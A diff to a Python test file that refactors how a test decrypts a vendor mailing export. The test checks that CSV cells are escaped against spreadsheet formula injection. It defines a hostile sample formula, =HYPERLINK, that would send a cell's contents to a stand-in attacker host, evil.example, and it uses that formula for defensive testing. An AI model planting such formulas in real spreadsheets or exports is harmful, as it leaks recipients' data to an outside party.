@@ -17,12 +17,10 @@ from conftest import PAPER_FORM, application_for
 from custodian.analytics.models import PageView
 from custodian.csvfile import csv_writer, runs_as_formula
 from custodian.customers.services import customer_enrol
-from custodian.disclosures.exports import export_dir
 from custodian.disclosures.models import VendorExport
 from custodian.portal.models import PortalAccount
-from custodian.testing import PROJECT_ROOT, vendor_with_determination
+from custodian.testing import PROJECT_ROOT, export_text, vendor_with_determination
 from custodian.usage.greenbutton_export import UsagePointExport, green_button_csv
-from custodian.vault.export_crypto import read_export
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 HOSTILE = {
@@ -98,14 +96,7 @@ def test_the_decrypted_mailing_export(hostile_customer, privacy_officer):
         stdout=io.StringIO(), stderr=io.StringIO(),
     )  # fmt: skip
     export = VendorExport.objects.get(vendor=vendor)
-    text = b"".join(
-        read_export(
-            export_dir() / export.file_name,
-            export_id=str(export.pk),
-            sealed_key=export.sealed_key,
-            vendor_private_key=private_key,
-        )
-    ).decode()
+    text = export_text(export, private_key)
     assert_no_formula(text, "mailing export")
     assert "'" + HYPERLINK in cells(text)
 
